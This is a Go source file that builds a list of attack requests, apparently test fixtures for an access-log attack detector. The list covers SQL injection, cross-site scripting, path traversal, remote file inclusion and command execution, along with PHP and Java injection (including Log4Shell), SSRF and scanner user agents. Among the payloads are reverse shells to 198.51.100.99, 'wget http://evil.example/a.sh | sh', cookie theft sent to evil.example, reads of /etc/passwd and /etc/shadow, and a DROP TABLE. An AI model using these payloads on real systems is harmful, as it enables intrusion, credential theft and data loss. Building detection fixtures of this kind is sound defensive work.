package accesslog

import (
	"net/url"
	"strconv"
)

// Attack is a request with an attack in one part of it.
type Attack struct {
	Class   string
	Name    string
	Part    Part
	Request *Request
}

// Attacks returns the attack requests, grouped by class.
func Attacks() []Attack {
	return []Attack{
		inQuery("SQL injection", "union select", "1' UNION SELECT username,password FROM users-- -"),
		inQuery("SQL injection", "tautology", "1' or '1'='1"),
		inQuery("SQL injection", "time delay", "1;SELECT SLEEP(5)#"),
		inQuery("SQL injection", "stacked drop", "1'; DROP TABLE orders;--"),
		inQuery("SQL injection", "information schema", "-1 union all select table_name from information_schema.tables"),
		inQuery("SQL injection", "MongoDB operator", "'; return db.users.find({$where: '1==1'}); var x='"),
		inHeader("SQL injection", "in User-Agent", UserAgent, "User-Agent", "Mozilla/5.0' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -"),
		inHeader("SQL injection", "in cookie", Cookie, "Cookie", "session=1' UNION SELECT password FROM users-- -"),
		inForm("SQL injection", "in login form", "user=admin&password="+url.QueryEscape("' or 1=1 union select 1,2,3-- -")),

		inQuery("cross-site scripting", "script tag", "<script>alert(document.cookie)</script>"),
		inQuery("cross-site scripting", "event handler", `"><img src=x onerror=alert(1)>`),
		inQuery("cross-site scripting", "svg", "<svg/onload=alert(1)>"),
		inQuery("cross-site scripting", "javascript URL", `<a href="javascript:alert(1)">x</a>`),
		inQuery("cross-site scripting", "iframe", "<iframe src=javascript:alert(1)></iframe>"),
		inHeader("cross-site scripting", "in Referer", Referer, "Referer", "https://shop.example.com/?q=<script>alert(1)</script>"),
		inHeader("cross-site scripting", "in User-Agent", UserAgent, "User-Agent", "<script>fetch('//evil.example/'+document.cookie)</script>"),
		inForm("cross-site scripting", "in comment form", "comment="+url.QueryEscape("<script>alert(1)</script>")),

		inQuery("path traversal", "etc passwd", "../../../../etc/passwd"),
		inQuery("path traversal", "with null byte", "../../../../etc/shadow\x00.png"),
		inTarget("path traversal", "in path", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"),
		inTarget("path traversal", "escaped twice", "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
		inTarget("path traversal", "backup of settings", "/.env"),
		inTarget("path traversal", "repository", "/.git/config"),
		inHeader("path traversal", "in cookie", Cookie, "Cookie", "template=../../../../etc/passwd"),

		inQuery("remote file inclusion", "IP address", "http://192.0.2.66/shell.txt?"),
		inQuery("remote file inclusion", "include parameter", "ftp://198.51.100.99/x.php?"),
		inTarget("remote file inclusion", "known parameter", "/index.php?mosConfig_absolute_path=http://evil.example/c99.txt?"),

		inQuery("command execution", "semicolon", "127.0.0.1;cat /etc/passwd"),
		inQuery("command execution", "pipe", "x|wget http://evil.example/a.sh -O- | sh"),
		inQuery("command execution", "substitution", "$(curl http://evil.example/x)"),
		inQuery("command execution", "PowerShell", "powershell.exe -nop -c Invoke-Expression(New-Object Net.WebClient)"),
		inQuery("command execution", "reverse shell", "bash -i >& /dev/tcp/198.51.100.99/4444 0>&1"),
		inHeader("command execution", "Shellshock in User-Agent", UserAgent, "User-Agent", "() { :;}; /bin/bash -c 'id'"),
		inHeader("command execution", "Shellshock in header", AnyHeader, "X-Custom", "() { :;}; echo vulnerable"),
		inForm("command execution", "in form", "host="+url.QueryEscape("8.8.8.8; nc -e /bin/sh 198.51.100.99 4444")),

		inQuery("PHP injection", "open tag", "<?php system($_GET['c']); ?>"),
		inQuery("PHP injection", "wrapper", "php://filter/convert.base64-encode/resource=index.php"),
		inQuery("PHP injection", "function call", "eval(base64_decode('cGhwaW5mbygpOw=='))"),
		inQuery("PHP injection", "serialized object", `O:8:"Exploits":1:{s:4:"exec";s:2:"id";}`),
		inTarget("PHP injection", "settings by query", "/cgi-bin/php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input"),

		inQuery("Java injection", "Log4Shell in query", "${jndi:ldap://evil.example/a}"),
		inHeader("Java injection", "Log4Shell in User-Agent", UserAgent, "User-Agent", "${jndi:ldap://evil.example/a}"),
		inHeader("Java injection", "Log4Shell in header", AnyHeader, "X-Api-Version", "${${lower:j}ndi:rmi://evil.example/a}"),
		inQuery("Java injection", "Spring4Shell", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=java.lang.Runtime.getRuntime().exec"),
		inForm("Java injection", "runtime in form", "name="+url.QueryEscape("%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}")),
		inHeader("Java injection", "OGNL in header", AnyHeader, "X-Forwarded-Proto", "%{(#_='multipart/form-data').(#cmd=@java.lang.ProcessBuilder@new('id').start())}"),

		inQuery("server-side request forgery", "cloud metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
		inQuery("server-side request forgery", "local service", "http://127.0.0.1:8500/v1/agent/self?"),
		inQuery("server-side request forgery", "gopher", "gopher://127.0.0.1:6379/_FLUSHALL"),

		inQuery("template and script injection", "Node.js", "require('child_process').exec('id')"),
		inQuery("template and script injection", "prototype pollution", "__proto__[admin]=1;constructor.prototype.x"),
		inQuery("template and script injection", "Ruby template", "<%= system('cat /etc/passwd') %>"),

		inHeader("scanner", "sqlmap", UserAgent, "User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
		inHeader("scanner", "Nikto", UserAgent, "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)"),
		inHeader("scanner", "Nuclei", UserAgent, "User-Agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
		inHeader("scanner", "masscan", UserAgent, "User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),

		inQuery("session fixation", "cookie by script", "<script>document.cookie=\"jsessionid=1\"</script>"),
		inQuery("session fixation", "cookie by markup", `<meta http-equiv="Set-Cookie" content="jsessionid=1;expires=never">`),

		inQuery("protocol attack", "response splitting", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"),
		inQuery("protocol attack", "LDAP filter", "*)(uid=*))(|(uid=*"),
	}
}

func inQuery(class, name, value string) Attack {
	return inTarget(class, name, "/search?q="+url.QueryEscape(value)+"&page=1")
}

func inTarget(class, name, target string) Attack {
	return Attack{class, name, URI, Browser("GET", target)}
}

func inHeader(class, name string, part Part, header, value string) Attack {
	return Attack{class, name, part, Browser("GET", "/catalog?page=1").With(header, value)}
}

func inForm(class, name, body string) Attack {
	r := Browser("POST", "/account/login")
	r.Body = body
	r.With("Content-Type", "application/x-www-form-urlencoded").With("Content-Length", strconv.Itoa(len(body)))
	return Attack{class, name, Body, r}
}
